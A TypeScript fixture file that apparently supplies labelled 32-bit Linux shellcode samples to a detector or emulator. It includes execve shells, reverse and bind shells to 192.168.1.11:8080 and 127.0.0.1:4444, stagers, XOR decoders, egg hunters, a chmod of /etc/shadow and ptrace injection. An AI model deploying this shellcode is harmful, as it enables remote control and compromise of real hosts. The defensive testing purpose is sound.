import type { Sample } from './sample.ts';

const SHELL = `
  xor edx, edx
  push edx
  push 0x68732f2f
  push 0x6e69622f
  mov ebx, esp
  push edx
  push ebx
  mov ecx, esp
  push 11
  pop eax
  int 0x80`;
const DUP_LOOP = `
  push 2
  pop ecx
1: push 63
  pop eax
  int 0x80
  dec ecx
  jns 1b`;
/** socketcall(SYS_SOCKET, {AF_INET, SOCK_STREAM, 0}); the descriptor comes to EBX. */
const SOCKET = `
  xor ebx, ebx
  push ebx
  inc ebx
  push ebx
  push 2
  mov ecx, esp
  push 102
  pop eax
  int 0x80
  xchg ebx, eax`;
const XOR_PAYLOAD = 0x5a;

/** A decoder in front of a payload that the assembler xored. */
function xored(decoder: string): string {
  const bytes = [
    0x31, 0xd2, 0x52, 0x68, 0x2f, 0x2f, 0x73, 0x68, 0x68, 0x2f, 0x62, 0x69, 0x6e, 0x89, 0xe3, 0x31, 0xc9,
    0x6a, 0x0b, 0x58, 0xcd, 0x80,
  ];
  const list = bytes.map((byte) => byte ^ XOR_PAYLOAD).join(', ');
  return decoder
    .replace('PAYLOAD', `.byte ${list}`)
    .replaceAll('LENGTH', String(bytes.length))
    .replaceAll('KEY', String(XOR_PAYLOAD));
}

/** 32-bit shellcodes. */
export const SAMPLES_32: readonly Sample[] = [
  {
    name: 'pushed /bin//sh',
    bits: 32,
    source: SHELL,
    chain: 'shell',
    call: 'execve("/bin//sh", ["/bin//sh"]',
    traits: ['stack-string', 'syscall'],
  },
  {
    name: 'jmp-call-pop with patched string',
    bits: 32,
    source:
      'jmp 2f; 1: pop esi; xor eax, eax; mov [esi+7], al; mov [esi+8], esi; mov [esi+12], eax; mov al, 11; mov ebx, esi; lea ecx, [esi+8]; lea edx, [esi+12]; int 0x80; 2: call 1b; .ascii "/bin/shXAAAABBBB"',
    chain: 'shell',
    call: 'execve("/bin/sh", ["/bin/sh"]',
    traits: ['load-rip'],
  },
  {
    name: 'by the vDSO',
    bits: 32,
    source: SHELL.replace('int 0x80', 'call dword ptr gs:[0x10]'),
    chain: 'shell',
    call: 'execve("/bin//sh"',
  },
  { name: 'by sysenter', bits: 32, source: SHELL.replace('int 0x80', 'sysenter'), chain: 'shell' },
  {
    name: 'setresuid and a shell',
    bits: 32,
    source: `xor ebx, ebx; xor ecx, ecx; xor edx, edx; mov eax, 208; int 0x80; ${SHELL}`,
    chain: 'privilege change',
    call: 'setresuid32(0, 0, 0)',
  },
  {
    name: 'reverse shell by socketcall',
    bits: 32,
    source: `${SOCKET}
      mov esi, ebx; push 0x0100007f; pushw 0x5c11; pushw 2; mov ecx, esp; push 16; push ecx; push esi; mov ecx, esp; push 3; pop ebx; push 102; pop eax; int 0x80; mov ebx, esi; ${DUP_LOOP}; ${SHELL}`,
    chain: 'reverse shell',
    call: 'connect(3, 127.0.0.1:4444, 16)',
  },
  {
    name: 'reverse shell by the newer calls',
    bits: 32,
    source: `mov eax, 359; push 2; pop ebx; push 1; pop ecx; xor edx, edx; int 0x80; xchg ebx, eax; push 0x0b01a8c0; pushw 0x901f; pushw 2; mov ecx, esp; mov edx, 16; mov eax, 362; int 0x80; ${DUP_LOOP}; ${SHELL}`,
    chain: 'reverse shell',
    call: '192.168.1.11:8080',
  },
  {
    name: 'bind shell by socketcall',
    bits: 32,
    source: `${SOCKET}
      mov esi, ebx; xor edx, edx; push edx; pushw 0x5c11; pushw 2; mov ecx, esp; push 16; push ecx; push esi; mov ecx, esp; push 2; pop ebx; push 102; pop eax; int 0x80
      push 1; push esi; mov ecx, esp; push 4; pop ebx; push 102; pop eax; int 0x80; push 0; push 0; push esi; mov ecx, esp; push 5; pop ebx; push 102; pop eax; int 0x80; xchg ebx, eax; ${DUP_LOOP}; ${SHELL}`,
    chain: 'bind shell',
    call: 'bind(3, 0.0.0.0:4444, 16)',
  },
  {
    name: 'read stager',
    bits: 32,
    source: 'xor ebx, ebx; sub esp, 0x100; mov ecx, esp; mov edx, 0x100; push 3; pop eax; int 0x80; jmp ecx',
    chain: 'staged loader',
  },
  {
    name: 'stager with mprotect, and recv',
    bits: 32,
    source: `mov ebx, esp; and ebx, 0xfffff000; mov ecx, 0x1000; mov edx, 7; mov eax, 125; int 0x80; mov ebx, 10; push 0; push 0x200; lea ecx, [esp-0x400]; push ecx; push 4; mov esi, ecx; mov ecx, esp; mov eax, 102; int 0x80; call esi`,
    chain: 'staged loader',
    call: 'recv(4',
  },
  {
    name: 'decoder: xor by jmp-call-pop',
    bits: 32,
    source: xored(
      'jmp 3f; 1: pop esi; push esi; mov ecx, LENGTH; 2: xor byte ptr [esi], KEY; inc esi; loop 2b; ret; 3: call 1b; PAYLOAD',
    ),
    chain: 'shell',
    traits: ['load-rip', 'decoder-loop', 'write-self'],
  },
  {
    name: 'decoder: call $+4',
    bits: 32,
    source: xored(
      '.byte 0xe8, 0xff, 0xff, 0xff, 0xff, 0xc0; pop esi; lea esi, [esi+4f-3f+1]; 3: jmp 5f; nop; 5: xor ecx, ecx; mov cl, LENGTH; mov edi, esi; 6: xor byte ptr [edi+7f-4f], KEY; inc edi; loop 6b; jmp 7f; 4: nop; 7: PAYLOAD',
    ).replace('lea esi, [esi+4f-3f+1]; 3: ', 'call 9f; 9: pop esi; lea esi, [esi+4f-9b]; '),
    chain: 'shell',
    traits: ['load-rip', 'decoder-loop'],
  },
  {
    name: 'decoder: x87 get-PC',
    bits: 32,
    source: xored(
      '8: fldz; fnstenv [esp-12]; pop esi; mov ecx, LENGTH; 2: xor byte ptr [esi+ecx+7f-8b-1], KEY; loop 2b; 7: PAYLOAD',
    ),
    chain: 'shell',
    traits: ['load-rip', 'decoder-loop'],
  },
  {
    name: 'decoder: x87 get-PC by fxsave',
    bits: 32,
    source: xored(
      'sub esp, 0x400; and esp, 0xfffffff0; 8: fldpi; fxsave [esp]; mov esi, [esp+8]; mov ecx, LENGTH; 2: xor byte ptr [esi+ecx+7f-8b-1], KEY; loop 2b; 7: PAYLOAD',
    ),
    chain: 'shell',
    traits: ['load-rip', 'decoder-loop'],
  },
  {
    name: 'decoder: lods, xor, stos',
    bits: 32,
    source: xored(
      'jmp 3f; 1: pop esi; mov edi, esi; push esi; mov ecx, LENGTH; cld; 2: lodsb; xor al, KEY; stosb; loop 2b; ret; 3: call 1b; PAYLOAD',
    ),
    chain: 'shell',
    traits: ['decoder-loop'],
  },
  {
    name: 'decoder: onto the stack',
    bits: 32,
    source: xored(
      'call 1f; 1: pop esi; lea esi, [esi+7f-1b]; sub esp, 64; mov edi, esp; mov ecx, LENGTH; 2: mov al, [esi]; xor al, KEY; mov [edi], al; inc esi; inc edi; dec ecx; jnz 2b; jmp esp; 7: PAYLOAD',
    ),
    chain: 'shell',
    traits: ['decoder-loop'],
  },
  {
    name: 'decoder: additive feedback, a word a step',
    bits: 32,
    source:
      'mov ebx, 0; fldz; fnstenv [esp-12]; pop edx; lea edx, [edx]; call 1f; 1: pop edx; lea edx, [edx+7f-1b]; mov ecx, 6; 2: xor [edx], ebx; add ebx, 0; add edx, 4; loop 2b; 7: ' +
      SHELL +
      '; nop; nop; nop',
    chain: 'shell',
    traits: ['decoder-loop'],
  },
  {
    name: 'egg hunt by access',
    bits: 32,
    source:
      '1: or dx, 0xfff; 2: inc edx; lea ebx, [edx+4]; push 33; pop eax; xor ecx, ecx; int 0x80; cmp al, 0xf2; jz 1b; mov eax, 0x50905090; mov edi, edx; scasd; jnz 2b; scasd; jnz 2b; jmp edi',
    chain: 'egg hunt',
  },
  {
    name: 'egg hunt by sigaction',
    bits: 32,
    source:
      '1: or cx, 0xfff; 2: inc ecx; push 67; pop eax; int 0x80; cmp al, 0xf2; jz 1b; mov eax, 0x50905090; mov edi, ecx; scasd; jnz 2b; scasd; jnz 2b; jmp edi',
    chain: 'egg hunt',
  },
  {
    name: 'from 32 to 64 bits, and a shell there',
    bits: 32,
    source: `push 0x33; call 1f; 1: add dword ptr [esp], 2f-1b; .byte 0xcb; 2: .code64; xor edx, edx; push rdx; mov rbx, 0x68732f2f6e69622f; push rbx; mov rdi, rsp; xor esi, esi; mov eax, 59; syscall; .code32`,
    chain: 'shell',
    call: 'execve("/bin//sh"',
    traits: ['heavens-gate'],
  },
  {
    name: 'far jump to 64 bits',
    bits: 32,
    source:
      'call 1f; 1: pop eax; lea eax, [eax+2f-1b]; push 0x33; push eax; jmp fword ptr [esp]; 2: .code64; mov eax, 102; syscall; xor edi, edi; mov eax, 105; syscall; mov eax, 60; syscall; .code32',
    chain: 'privilege change',
    traits: ['heavens-gate'],
  },
  {
    name: 'a sled of INC ECX',
    bits: 32,
    source: `.skip 64, 0x41; ${SHELL}`,
    chain: 'shell',
    traits: ['nop-sled'],
  },
  {
    name: 'a sled of multi-byte no-operations',
    bits: 32,
    source: `.rept 24; .byte 0x66, 0x90; .endr; ${SHELL}`,
    chain: 'shell',
    traits: ['nop-sled'],
  },
  {
    name: 'alphanumeric: the call is patched in',
    bits: 32,
    source: `call 1f; 1: pop eax; lea eax, [eax+2f-1b]; mov word ptr [eax], 0x4e57; xor word ptr [eax], 0xce9a; ${SHELL.replace('int 0x80', '2: .word 0')}`,
    chain: 'shell',
    traits: ['write-self', 'load-rip'],
  },
  {
    name: 'chmod of /etc/shadow',
    bits: 32,
    source:
      'xor eax, eax; push eax; push 0x776f6461; push 0x68732f2f; push 0x6374652f; mov ebx, esp; mov cx, 0666; mov al, 15; int 0x80; mov al, 1; int 0x80',
    chain: 'persistence',
    call: 'chmod("/etc//shadow", 0666)',
  },
  {
    name: 'a module with init_module',
    bits: 32,
    source: 'mov ebx, esp; mov ecx, 0x1000; mov edx, esp; mov eax, 128; int 0x80; mov eax, 1; int 0x80',
    chain: 'kernel-module load',
  },
  {
    name: 'injection by ptrace',
    bits: 32,
    source:
      'mov ebx, 16; mov ecx, 999; xor edx, edx; xor esi, esi; mov eax, 26; int 0x80; mov eax, 1; int 0x80',
    chain: 'process injection',
    call: 'PTRACE_ATTACH, 999',
  },
  {
    name: 'memfd and fexecve',
    bits: 32,
    source:
      'push 0; mov ebx, esp; xor ecx, ecx; mov eax, 356; int 0x80; mov ebx, eax; push 0; mov ecx, esp; xor edx, edx; xor esi, esi; mov edi, 0x1000; mov eax, 358; int 0x80',
    chain: 'file-less execution',
  },
];
